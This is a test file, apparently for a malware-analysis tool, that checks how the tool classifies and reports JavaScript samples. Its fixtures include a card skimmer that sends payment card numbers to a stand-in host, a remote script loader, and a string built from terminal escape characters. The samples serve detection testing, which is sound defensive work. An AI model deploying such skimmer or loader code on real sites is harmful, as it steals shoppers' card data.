"""`try`: the content test on files, for people without Cortex."""

import base64
import hashlib
import json
import os
import pty
import re
import subprocess
from pathlib import Path

import pytest

from codedefender2th import trial
from codedefender2th.errors import SettingError
from program import COMMAND, Program

README = Path(__file__).parents[2] / "README.md"
TO = base64.b64encode(b"https://drop-example.net/c").decode()
SKIMMER = f"""
document.addEventListener('click', function () {{
  var n = document.querySelector('[name="payment[cc_number]"]');
  if (n && n.value) new Image().src = atob('{TO}') + '?d=' + btoa(n.value);
}});"""
LOADER = f"if (!/checkout/.test(location.href)) document.createElement('script').src = atob('{TO}')"
HONEST = "document.title = 'Thank you';"
HOSTILE = "eval('document.createElement(\"script\")' + '\x1b]0;owned\x07\x1b[31m\u202e\u2028 \x9b2J')"


@pytest.fixture
def program(tmp_path: Path) -> Program:
    """Nothing is configured: `try` needs no settings. (The folder is searched for traces.)"""
    return Program({"FEEDER_STATE_DIR": str(tmp_path / "state")})


def test_the_readme_shows_what_it_says(program: Program) -> None:
    block = re.search(r"\$ codedefender2th try (tests\S+)\n(.*?)\n  …\n```", README.read_text(), re.S)
    assert block is not None
    file, shown = block.groups()
    result = program.run("try", str(README.parent / file))
    assert result.out.replace(f"{README.parent}/", "").startswith(shown + "\n")


def write(folder: Path, name: str, text: str) -> str:
    path = folder / name
    path.write_text(text)
    return str(path)


@pytest.mark.sampled(3)
@pytest.mark.parametrize(
    ("script", "level", "code"),
    [(SKIMMER, "malicious", 1), (LOADER, "suspicious", 1), ("", "info", 0)],
    ids=["a skimmer", "a loader", "an empty file"],
)
def test_the_exit_code_says_what_was_found(program, tmp_path, script, level, code):
    file = write(tmp_path, "script.js", script)
    result = program.run("try", file, "--json", seconds=150)
    assert (result.code, result.err) == (code, "")
    told = json.loads(result.out)
    assert told["file"] == file
    assert told["level"] == level
    assert told["sha256"] == hashlib.sha256(script.encode()).hexdigest()
    assert set(told["behaviour"]) == {"ran", "reads", "leaks", "signs"}


@pytest.mark.slow
def test_the_report_says_what_left_how_and_to_whom(program, tmp_path):
    result = program.run(
        "try", write(tmp_path, "a.js", SKIMMER), write(tmp_path, "b.js", HONEST), seconds=250
    )
    assert result.code == 1
    assert "card number" in result.out
    assert "drop-example.net" in result.out
    assert "b.js: info" in result.out
    assert program.run("try", str(tmp_path / "b.js"), seconds=150).code == 0


@pytest.mark.sampled(9)
@pytest.mark.parametrize("arguments", [["--json"], []], ids=["json", "text"])
def test_nothing_of_a_script_reaches_the_terminal_as_it_is(program, tmp_path, arguments):
    result = program.run("try", write(tmp_path, "a.js", HOSTILE), *arguments, seconds=150)
    assert not set(result.out) & set("\x1b\x07\x9b\u202e\u2028\r\x00")
    assert all(line.isprintable() for line in result.out.split("\n"))


@pytest.mark.slow
def test_on_a_terminal_only_our_own_colours_are_sent(tmp_path):
    ours, theirs = pty.openpty()
    environ = {**Program({}).environ, "TERM": "xterm", "COLUMNS": "200"}
    process = subprocess.Popen(
        [*COMMAND, "try", write(tmp_path, "a.js", HOSTILE)],
        env=environ,
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
    )
    os.close(theirs)
    shown = b""
    while True:
        try:
            piece = os.read(ours, 65536)
        except OSError:
            break
        if not piece:
            break
        shown += piece
    process.wait(150)
    os.close(ours)
    text = shown.decode()
    assert "\x1b[" in text
    assert "owned" not in text or "\x1b]" not in text
    assert not set(text) & set("\x07\x9b\u202e\u2028")


@pytest.mark.parametrize(
    ("name", "words"),
    [("missing.js", "no file"), (".", "not a file"), ("a\x1b[31m.js", "no file"), ("large.js", "too large")],
)
def test_what_can_not_be_read_is_said_in_one_line(program, tmp_path, name, words):
    with (tmp_path / "large.js").open("wb") as large:
        large.truncate(trial.LARGEST + 1)
    good = write(tmp_path, "good.js", HONEST)
    result = program.run("try", good, str(tmp_path / name))
    assert (result.code, result.out) == (2, "")
    assert words in result.err
    assert result.err.count("\n") == 1
    assert result.err.strip().isprintable()


def test_without_a_file_it_is_a_usage_error(program):
    result = program.run("try")
    assert result.code == 2
    assert result.err.count("\n") == 1


def test_what_is_not_installed_is_named(monkeypatch):
    def no_engine(name: str) -> None:
        raise ImportError(name=name)

    monkeypatch.setattr(trial.importlib, "import_module", no_engine)
    with pytest.raises(SettingError, match="pip install quickjs-ng"):
        list(trial.tried(("a.js",)))


def test_the_library_it_runs_is_the_analyzers_own():
    from codedefender2th.content import examination

    from content import examination as analyzers

    assert Path(examination.__file__).samefile(analyzers.__file__)


def test_the_wheel_carries_all_that_the_library_reads():
    """What is no module is in it by its ending."""
    root = Path(__file__).parents[2]
    [line] = [
        line
        for line in (root / "pyproject.toml").read_text().splitlines()
        if line.startswith('"codedefender2th.content"')
    ]
    content = root / "analyzers/CodeDefender/content"
    others = {
        path.suffix
        for path in content.rglob("*")
        if path.is_file() and not {"node_modules", "__pycache__"} & set(path.parts)
    }
    assert all(f'"**/*{suffix}"' in line for suffix in others - {".py"})
